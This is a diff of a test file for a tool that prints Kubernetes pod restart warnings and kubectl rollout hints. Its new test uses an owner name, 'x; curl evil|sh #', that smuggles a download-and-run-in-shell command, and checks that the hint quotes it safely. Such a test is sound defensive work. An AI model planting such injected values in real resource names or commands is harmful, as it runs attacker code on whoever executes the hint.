@@ -18,7 +18,16 @@ test('one command per namespace restarts each workload once; other pods are list
 
 test('the warning has the number of pods', () => {
   const pod = podOf('one', 'web', 'a')
-  expect(formatRestarts([])).toBe('')
-  expect(formatRestarts([pod])).toMatch(/^warning: 1 pod keeps its .* until it is restarted\nhint: {2}kubectl -n one/)
-  expect(formatRestarts([pod, pod])).toMatch(/^warning: 2 pods keep their .* until they are restarted\n/)
+  expect(formatRestarts([])).toEqual([])
+  expect(formatRestarts([pod])).toEqual([
+    expect.stringMatching(/^warning: 1 pod keeps its .* until it is restarted$/),
+    expect.stringMatching(/^hint: {2}kubectl -n one/),
+  ])
+  expect(formatRestarts([pod, pod])[0]).toMatch(/^warning: 2 pods keep their .* until they are restarted$/)
+})
+
+// The API server does not validate the name in an ownerReference.
+test('the name of an owner cannot add a command', () => {
+  const pod = podOf('one', 'web-1', 'a', {owner: {kind: 'Deployment', name: 'x; curl evil|sh #'}})
+  expect(restartHints([pod])).toEqual(["kubectl -n one rollout restart 'deploy/x; curl evil|sh #'"])
 })
